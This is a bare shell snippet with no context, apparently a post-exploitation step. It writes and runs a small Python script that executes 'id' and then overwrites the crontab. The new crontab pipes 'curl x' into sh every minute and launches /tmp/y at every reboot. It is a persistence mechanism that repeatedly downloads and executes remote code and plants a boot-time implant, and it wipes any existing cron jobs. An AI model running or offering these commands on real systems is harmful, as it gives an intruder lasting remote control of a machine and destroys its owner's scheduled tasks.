cat > /tmp/a.py <<E
import os
os.system("id")
E
python3 /tmp/a.py; crontab - <<E
* * * * * curl x | sh
@reboot /tmp/y
E